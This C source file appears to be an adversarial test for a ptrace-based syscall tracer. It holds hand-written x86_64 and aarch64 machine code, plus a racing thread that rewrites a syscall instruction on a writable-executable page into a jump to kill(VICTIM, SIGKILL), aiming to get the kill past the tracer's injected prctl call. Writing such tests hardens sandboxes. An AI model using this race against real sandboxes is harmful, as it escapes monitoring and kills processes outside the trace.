/* A syscall the tracer puts in, subverted: after a uid change the tracer sends the thread back
 * to its syscall instruction with the registers of prctl(PR_SET_DUMPABLE, 1). That instruction
 * lives here on a writable and executable page, and a second thread keeps flipping it between
 * the syscall instruction and a jump to kill(VICTIM, SIGKILL), so that some of the tracer's
 * re-executions take the jump. A tracer that took every stop after its injection for the
 * injected call's would let that kill through unchecked; run directly, the jump's kill is an
 * ordinary call (denied by the tracer: VICTIM is outside the trace).
 *   adv_inject VICTIM UID N  N setresuid(UID, UID, UID) calls through that instruction; prints
 *                            "calls=N" and victim=alive|dead
 * x86_64 and aarch64. */
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "adv.h"

static uint8_t *page;

#if defined(__x86_64__)
/* site: syscall; ret.  stub (+16): mov eax, __NR_kill; mov edi, VICTIM; mov esi, 9; syscall; ret.
 * The rewrite: "jmp +14" (eb 0e) over the syscall instruction, landing on the stub. */
#define STUB 16
static void write_code(pid_t victim)
{
    static const uint8_t site[] = {0x0f, 0x05, 0xc3};
    uint8_t stub[] = {0xb8, 0, 0, 0, 0, 0xbf, 0, 0, 0, 0, 0xbe, 9, 0, 0, 0, 0x0f, 0x05, 0xc3};
    uint32_t nr = __NR_kill, v = (uint32_t)victim;
    memcpy(stub + 1, &nr, 4);
    memcpy(stub + 6, &v, 4);
    memcpy(page, site, sizeof site);
    memcpy(page + STUB, stub, sizeof stub);
}
/* (one aligned 16-bit store: a half-written instruction would be another one) */
static void flip(int jump)
{
    __atomic_store_n((uint16_t *)(void *)page, jump ? (uint16_t)(0xeb | (STUB - 2) << 8) : 0x050f,
                     __ATOMIC_RELAXED);
}
static long call_site(long nr, long a, long b, long c)
{
    register long rax __asm__("rax") = nr;
    register long rdi __asm__("rdi") = a, rsi __asm__("rsi") = b, rdx __asm__("rdx") = c;
    /* (below the red zone: a leaf function's 128 bytes under rsp stay untouched) */
    __asm__ volatile("sub $128, %%rsp\n\tcall *%5\n\tadd $128, %%rsp"
                     : "+r"(rax), "+r"(rdi), "+r"(rsi), "+r"(rdx)
                     : "r"(rax), "r"(page)
                     : "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
    return rax;
}
#elif defined(__aarch64__)
/* site: svc #0; ret.  stub (+16): movz x8, __NR_kill; movz w0, VICTIM (low 16); movk w0, high
 * 16, lsl 16; movz x1, 9; svc #0; ret.  The rewrite: "b +16" over the svc. */
#define STUB 16
static void put32(uint8_t *p, uint32_t insn)
{
    memcpy(p, &insn, 4);
}
static void write_code(pid_t victim)
{
    uint32_t v = (uint32_t)victim;
    put32(page, 0xd4000001);     /* svc #0 */
    put32(page + 4, 0xd65f03c0); /* ret */
    put32(page + STUB, 0xd2800008 | ((uint32_t)__NR_kill << 5));
    put32(page + STUB + 4, 0x52800000 | ((v & 0xffff) << 5));
    put32(page + STUB + 8, 0x72a00000 | ((v >> 16) << 5));
    put32(page + STUB + 12, 0xd2800121); /* movz x1, #9 */
    put32(page + STUB + 16, 0xd4000001);
    put32(page + STUB + 20, 0xd65f03c0);
}
static void flip(int jump)
{
    __atomic_store_n((uint32_t *)(void *)page, jump ? 0x14000000 | (STUB / 4) : 0xd4000001,
                     __ATOMIC_RELAXED);
    __builtin___clear_cache((char *)page, (char *)page + 4);
}
static long call_site(long nr, long a, long b, long c)
{
    register long x8 __asm__("x8") = nr;
    register long x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile("blr %5"
                     : "+r"(x0), "+r"(x1), "+r"(x2), "+r"(x8)
                     : "r"(x8), "r"(page)
                     : "x3", "x4", "x5", "x6", "x7", "x9", "x10", "x11", "x12", "x13", "x14", "x15",
                       "x16", "x17", "x30", "memory", "cc");
    return x0;
}
#else
#error "adv_inject: x86_64 and aarch64 only"
#endif

static atomic_int done;

static void *flipper(void *arg)
{
    (void)arg;
    /* (mostly the jump: a call that does reach its syscall then meets the jump again when the
     * tracer sends it back there) */
    for (unsigned i = 0; !atomic_load(&done); i++)
        flip(i % 8 != 0);
    flip(0);
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: adv_inject VICTIM UID\n");
        return 2;
    }
    pid_t victim = (pid_t)adv_num(argc, argv, 1, 0);
    long uid = adv_num(argc, argv, 2, 1000), n = adv_num(argc, argv, 3, 200);
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED) {
        perror("mmap");
        return 2;
    }
    write_code(victim);
    pthread_t th;
    if (pthread_create(&th, NULL, flipper, NULL) != 0)
        return 2;
    long i;
    for (i = 0; i < n && kill(victim, 0) == 0; i++)
        call_site(__NR_setresuid, uid, uid, uid);
    atomic_store(&done, 1);
    pthread_join(th, NULL);
    /* (signal 0 and write are not traced: this gets out even of an unreadable process) */
    printf("calls=%ld\nvictim=%s\n", i, kill(victim, 0) == 0 ? "alive" : "dead");
    fflush(stdout);
    return 0;
}
